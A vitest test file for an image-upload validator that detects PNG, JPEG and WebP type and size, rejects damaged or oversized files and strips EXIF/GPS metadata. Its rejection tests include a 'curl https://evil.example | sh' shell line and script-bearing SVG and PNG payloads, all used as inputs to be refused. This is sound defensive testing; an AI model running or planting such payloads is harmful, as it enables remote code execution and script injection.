/** Photos are told by their bytes: type, size, and whether they are whole. */
import { PHOTO_MAX_BYTES } from '@cercle/client';
import { ApiError, illustration, inspectImage, stripMetadata } from '@cercle/server';
import { describe, expect, it } from 'vitest';
import {
  JPEG_6X4,
  WEBP_6X4,
  WEBP_LOSSLESS_6X4,
  png,
  simpleWebp,
  withExif,
  withPngText,
  withWebpExif,
} from './images.js';

/** The error `inspectImage` throws: [status, code, message]. */
function refusal(bytes: Buffer): [number, string, string] {
  try {
    inspectImage(bytes);
  } catch (error) {
    if (error instanceof ApiError) return [error.status, error.code, error.message];
    throw error;
  }
  throw new Error('the image was accepted');
}

const TRUNCATED: [number, string, string] = [
  400,
  'validation_failed',
  'The image is truncated or damaged.',
];
const NOT_AN_IMAGE: [number, string, string] = [
  415,
  'unsupported_media_type',
  'Send a JPEG, PNG or WebP photo.',
];

describe('inspectImage', () => {
  it('reads the type and size of PNG, JPEG and WebP (lossy, lossless, simple and extended)', async () => {
    expect(inspectImage(await png(37, 21))).toEqual({
      contentType: 'image/png',
      width: 37,
      height: 21,
    });
    const six = (contentType: string) => ({ contentType, width: 6, height: 4 });
    expect(inspectImage(JPEG_6X4)).toEqual(six('image/jpeg'));
    expect(inspectImage(WEBP_6X4)).toEqual(six('image/webp'));
    expect(inspectImage(WEBP_LOSSLESS_6X4)).toEqual(six('image/webp'));
    expect(inspectImage(simpleWebp(WEBP_6X4, 'VP8 '))).toEqual(six('image/webp'));
    expect(inspectImage(simpleWebp(WEBP_LOSSLESS_6X4, 'VP8L'))).toEqual(six('image/webp'));
  });

  it('refuses what is not a JPEG, PNG or WebP, whatever it is called', async () => {
    expect(refusal(Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'))).toEqual(
      NOT_AN_IMAGE,
    );
    expect(refusal(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'))).toEqual(
      NOT_AN_IMAGE,
    );
    expect(refusal(Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1'))).toEqual(
      NOT_AN_IMAGE,
    );
    expect(refusal(Buffer.from('RIFF\x04\x00\x00\x00WAVE', 'latin1'))).toEqual(NOT_AN_IMAGE);
  });

  it('refuses truncated or damaged images', async () => {
    const image = await png(20, 20);
    expect(refusal(image.subarray(0, image.length - 6))).toEqual(TRUNCATED);
    expect(refusal(image.subarray(0, 40))).toEqual(TRUNCATED);
    const flipped = Buffer.from(image);
    flipped[45] = (flipped[45] as number) ^ 0xff; // inside IDAT: the CRC no longer matches
    expect(refusal(flipped)).toEqual(TRUNCATED);
    // A script riding after the image is not an image any more.
    expect(refusal(Buffer.concat([image, Buffer.from('<script>alert(1)</script>')]))).toEqual(
      TRUNCATED,
    );

    expect(refusal(JPEG_6X4.subarray(0, JPEG_6X4.length - 2))).toEqual(TRUNCATED);
    expect(refusal(JPEG_6X4.subarray(0, JPEG_6X4.length - 40))).toEqual(TRUNCATED);
    expect(refusal(Buffer.concat([JPEG_6X4.subarray(0, 30), Buffer.from([0xff, 0xd9])]))).toEqual(
      TRUNCATED,
    );

    expect(refusal(WEBP_6X4.subarray(0, WEBP_6X4.length - 10))).toEqual(TRUNCATED);
  });

  it('refuses an empty body and anything over 2 MB', async () => {
    expect(refusal(Buffer.alloc(0))[1]).toBe('validation_failed');
    const big = Buffer.concat([await png(4, 4), Buffer.alloc(PHOTO_MAX_BYTES)]);
    expect(refusal(big)).toEqual([413, 'payload_too_large', 'A photo is at most 2 MB.']);
  });

  it('refuses images too large to show safely', async () => {
    expect(refusal(await png(12_000, 1))[0]).toBe(400);
  });

  it('draws the demo illustrations as small valid PNGs of the asked size', async () => {
    const image = await illustration(800, 600, 200);
    expect(inspectImage(image)).toEqual({ contentType: 'image/png', width: 800, height: 600 });
    expect(image.length).toBeLessThan(20_000);
  });
});

describe('stripMetadata', () => {
  it('drops EXIF, XMP, comments and text chunks, and keeps the image whole', async () => {
    const cases: [Buffer, Buffer, 'image/jpeg' | 'image/png' | 'image/webp'][] = [
      [withExif(JPEG_6X4), JPEG_6X4, 'image/jpeg'],
      [withPngText(await png(8, 8)), await png(8, 8), 'image/png'],
      [withWebpExif(WEBP_6X4), WEBP_6X4, 'image/webp'],
    ];
    for (const [tagged, clean, type] of cases) {
      expect(tagged.includes('GPS 48.8566N')).toBe(true);
      expect(inspectImage(tagged).contentType).toBe(type);
      const stripped = stripMetadata(tagged, type);
      expect(Buffer.from(stripped).includes('GPS 48.8566N')).toBe(false);
      expect(Buffer.from(stripped).equals(clean)).toBe(true);
      expect(inspectImage(stripped)).toEqual(inspectImage(clean));
    }
  });
});
